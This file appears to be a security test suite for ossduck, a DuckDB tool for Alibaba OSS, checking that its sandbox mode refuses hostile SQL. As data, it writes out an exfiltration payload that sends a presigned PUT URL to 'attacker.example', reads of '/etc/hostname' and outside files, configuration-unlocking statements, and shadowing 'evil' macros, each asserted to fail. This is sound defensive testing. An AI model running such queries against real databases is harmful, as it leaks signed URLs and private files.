import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { spawn } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Ossduck } from '../../src/Ossduck.js';
import type { OssduckError } from '../../src/OssduckError.js';
import { runCli } from '../support/runCli.js';

const CREDENTIALS = { accessKeyId: 'LTAIsandbox', accessKeySecret: 'sandbox-secret', securityToken: 'sandbox-token' };

/**
 * An HTTP server in a child process that records every request it gets (the
 * attacker's, or a routed origin): a SQL function blocks this thread while
 * its request is made, so the server cannot live here.
 */
class Listener {
  readonly requests: string[] = [];
  #child: ChildProcess | undefined;
  port = 0;

  /** Answers every request with `status` (and a Location to `redirect`, if given). */
  async start(status = 200, redirect?: string): Promise<void> {
    const code = `const http = require('node:http');
      const server = http.createServer((req, res) => {
        process.stdout.write(JSON.stringify(req.method + ' ' + req.headers.host + ' ' + req.url) + '\\n');
        res.writeHead(${status}, ${JSON.stringify(redirect ? { location: redirect } : {})});
        res.end('<Error><Code>Teapot</Code></Error>');
      });
      server.listen(0, '127.0.0.1', () => process.stdout.write('port ' + server.address().port + '\\n'));`;
    const child = spawn(process.execPath, ['-e', code], { stdio: ['ignore', 'pipe', 'inherit'] });
    this.#child = child;
    await new Promise<void>((resolve, reject) => {
      let buffer = '';
      child.stdout!.setEncoding('utf8').on('data', (d: string) => {
        buffer += d;
        let nl: number;
        while ((nl = buffer.indexOf('\n')) >= 0) {
          const line = buffer.slice(0, nl);
          buffer = buffer.slice(nl + 1);
          if (line.startsWith('port ')) {
            this.port = Number(line.slice(5));
            resolve();
          } else if (line !== '') this.requests.push(JSON.parse(line) as string);
        }
      });
      child.once('error', reject);
    });
  }

  /** The requests it got, once everything sent before now has been seen (a request of the test's own marks the end). */
  async received(): Promise<string[]> {
    const marker = `/settle-${Math.random().toString(36).slice(2)}`;
    await fetch(`http://127.0.0.1:${this.port}${marker}`, { redirect: 'manual' }).then((r) => r.arrayBuffer());
    while (!this.requests.some((r) => r.endsWith(marker))) await new Promise((resolve) => setImmediate(resolve));
    return this.requests.filter((r) => !r.includes('/settle-'));
  }

  async stop(): Promise<void> {
    const child = this.#child;
    if (!child || child.exitCode !== null) return;
    await new Promise<void>((resolve) => {
      child.once('close', () => resolve());
      child.kill();
    });
  }
}

async function failure(duck: Ossduck, sql: string): Promise<OssduckError> {
  try {
    await duck.run(sql);
  } catch (error) {
    return error as OssduckError;
  }
  throw new Error(`no error for ${sql}`);
}

describe('sandbox mode (SQL you did not write)', () => {
  const attacker = new Listener();
  let allowed: string;
  let outside: string;
  beforeAll(async () => {
    await attacker.start();
    allowed = mkdtempSync(join(tmpdir(), 'ossduck-allowed-'));
    writeFileSync(join(allowed, 'in.csv'), 'a\n1\n');
    outside = mkdtempSync(join(tmpdir(), 'ossduck-outside-'));
    writeFileSync(join(outside, 'secret.txt'), 'not for SQL');
  });
  afterAll(async () => {
    await attacker.stop();
    rmSync(allowed, { recursive: true, force: true });
    rmSync(outside, { recursive: true, force: true });
  });

  let duck: Ossduck | undefined;
  afterEach(async () => {
    await duck?.close();
    duck = undefined;
  });

  const open = (): Promise<Ossduck> => Ossduck.open({ credentials: CREDENTIALS, env: {}, sandbox: { allowDirectories: [allowed] } });

  it('replays the exfiltration attack and each variant: every request is refused before it is made', async () => {
    duck = await open();
    await duck.run(`CREATE OBJECT TABLE prod LOCATION 'oss://oss-cn-hangzhou.aliyuncs.com/victim-bkt/db/';
      CREATE OBJECT TABLE exfil LOCATION 'oss://attacker.example:443/exfil/' WITH SERDEPROPERTIES ('ossduck.region'='cn-hangzhou');
      CREATE OBJECT TABLE ip LOCATION 'oss://127.0.0.1:${attacker.port}/exfil/' WITH SERDEPROPERTIES ('ossduck.region'='cn-hangzhou');
      CREATE OBJECT TABLE lh LOCATION 'oss://localhost:${attacker.port}/exfil/' WITH SERDEPROPERTIES ('ossduck.region'='cn-hangzhou');
      CREATE OBJECT TABLE port LOCATION 'oss://oss-cn-hangzhou.aliyuncs.com:${attacker.port}/exfil/'`);
    const payload = "'u/' || to_base64(encode(GET_SIGNED_URL_FROM_OSS('default_project.default.prod', 'db/backup.sql', 604800, 'PUT')))";
    for (const table of ['exfil', 'ip', 'lh', 'port']) {
      for (const sql of [
        `SELECT GET_DATA_FROM_OSS('default_project.default.${table}', ${payload})`,
        `ALTER TABLE ${table} REFRESH METADATA`,
        `SELECT * FROM oss_presign_prefix('default_project.default.${table}')`,
      ]) {
        const error = await failure(duck, sql);
        expect(error.format(), sql).toMatch(/is not on the allowed endpoints \(sandbox mode: \*\.aliyuncs\.com\)/);
        expect(error.format()).not.toContain('sandbox-secret');
      }
    }
    expect(await attacker.received()).toEqual([]);
  });

  it('keeps the operator-routed origin reachable, and does not follow its redirect to another host', async () => {
    const routed = new Listener();
    await routed.start(302, `http://127.0.0.1:${attacker.port}/stolen`);
    try {
      duck = await Ossduck.open({ credentials: CREDENTIALS, env: {}, sandbox: true, ossEndpoint: `http://127.0.0.1:${routed.port}` });
      await duck.run("CREATE OBJECT TABLE prod LOCATION 'oss://oss-cn-hangzhou.aliyuncs.com/victim-bkt/db/'");
      const error = await failure(duck, "SELECT GET_DATA_FROM_OSS('default_project.default.prod', 'a.txt', 0, -1, 'THROW_EXCEPTION')");
      expect(error.errorKind).toBe('io');
      expect(await routed.received()).toHaveLength(1);
      expect(await attacker.received()).toEqual([]);
    } finally {
      await routed.stop();
    }
  });

  it('fences DuckDB: no files outside the allowed folders, no extensions, a locked configuration', async () => {
    duck = await open();
    expect(await duck.run(`SELECT a FROM read_csv('${join(allowed, 'in.csv')}')`)).toEqual([expect.objectContaining({ rows: [{ a: 1 }] })]);
    for (const sql of [
      `SELECT * FROM read_text('${join(outside, 'secret.txt')}')`,
      "SELECT * FROM read_text('/etc/hostname')",
      `COPY (SELECT 1) TO '${join(outside, 'out.csv')}'`,
      `ATTACH '${join(outside, 'x.duckdb')}' AS x`,
      'INSTALL httpfs',
      'LOAD httpfs',
      'SET enable_external_access=true',
      'SET lock_configuration=false',
      "SET allowed_directories=['/']",
      'SET ossduck.allowed_endpoints=attacker.example',
    ]) {
      const error = await failure(duck, sql);
      expect(error.errorKind, sql).not.toBe('internal');
    }
    expect((await failure(duck, 'SET odps.sql.timezone=UTC')).detail).toMatch(/odps.sql.timezone cannot change to UTC: DuckDB's configuration is locked/);
    expect(await duck.run("SELECT current_setting('enable_external_access') AS on")).toEqual([expect.objectContaining({ rows: [{ on: false }] })]);
  });

  it('is what --sandbox gives the command line, with --allow-dir and --allow-endpoint', async () => {
    const run = await runCli(
      ['--sandbox', '--allow-dir', allowed, '--allow-endpoint', `127.0.0.1:${attacker.port}`, '--format', 'csv', '-c',
        `SELECT count(*) AS n FROM read_csv('${join(allowed, 'in.csv')}'); CREATE OBJECT TABLE ok LOCATION 'oss://127.0.0.1:${attacker.port}/bkt/' WITH SERDEPROPERTIES ('ossduck.region'='cn-hangzhou'); SELECT * FROM read_text('/etc/hostname')`],
      { env: { OSS_ACCESS_KEY_ID: 'LTAIcli', OSS_ACCESS_KEY_SECRET: 'cli-secret' } },
    );
    expect(run.stdout).toBe('n\n1\n');
    expect(run.stderr).toMatch(/^FAILED: .*disabled by configuration/);
  });
});

describe('ossduck.allowed_endpoints outside sandbox mode', () => {
  it('limits where ossduck reaches, and SQL may narrow it', async () => {
    const attacker = new Listener();
    await attacker.start();
    const duck = await Ossduck.open({ credentials: CREDENTIALS, env: {} });
    try {
      await duck.run(`SET ossduck.allowed_endpoints='*.aliyuncs.com'; CREATE OBJECT TABLE ip LOCATION 'oss://127.0.0.1:${attacker.port}/bkt/' WITH SERDEPROPERTIES ('ossduck.region'='cn-hangzhou')`);
      const error = await failure(duck, "SELECT GET_DATA_FROM_OSS('default_project.default.ip', 'k')");
      expect(error.detail).toMatch(/is not on the allowed endpoints \(ossduck.allowed_endpoints: \*\.aliyuncs\.com\)/);
      expect(await attacker.received()).toEqual([]);
    } finally {
      await duck.close();
      await attacker.stop();
    }
  });
});

describe("ossduck's functions", () => {
  it('cannot be hidden by a macro or function of the same name, in any case, schema or attached database', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ossduck-shadow-'));
    const file = join(dir, 'evil.duckdb');
    const instance = await DuckDBInstance.create(file);
    const c = await instance.connect();
    await c.run("CREATE MACRO main.get_data_from_oss(a, b) AS 'evil'");
    c.closeSync();
    instance.closeSync();
    const duck = await Ossduck.open({ credentials: CREDENTIALS, env: {}, settings: { 'ossduck.signing_time': '2026-11-23T12:00:00Z' } });
    try {
      await duck.run("CREATE OBJECT TABLE t LOCATION 'oss://oss-cn-hangzhou.aliyuncs.com/bkt/dir/'; CREATE SCHEMA s1");
      for (const sql of [
        "CREATE MACRO get_signed_url_from_oss(a, b) AS 'https://evil/'",
        "CREATE OR REPLACE TEMP MACRO GET_SIGNED_URL_FROM_OSS(a, b) AS 'https://evil/'",
        "CREATE FUNCTION default_project.s1.\"Get_Signed_Url_From_Oss\"(a, b) AS 'https://evil/'",
        "CREATE MACRO IF NOT EXISTS ossduck_presign(a, b) AS 'x'",
        "CREATE MACRO dateadd(a, b, c) AS 'x'",
        `ATTACH '${file}' AS evil`,
      ]) {
        const error = await failure(duck, sql);
        expect(error.detail, sql).toMatch(/is a function ossduck provides; a macro or function of that name, in any case or schema, would hide it/);
      }
      const [result] = await duck.run("SELECT GET_SIGNED_URL_FROM_OSS('default_project.default.t', 'k') AS url");
      expect(String(result!.rows[0]!['url'])).toMatch(/^https:\/\/bkt\.oss-cn-hangzhou\.aliyuncs\.com\/dir\/k\?/);
      const [databases] = await duck.run("SELECT count(*) AS n FROM duckdb_databases() WHERE database_name = 'evil'");
      expect(databases!.rows).toEqual([{ n: 0 }]);
    } finally {
      await duck.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
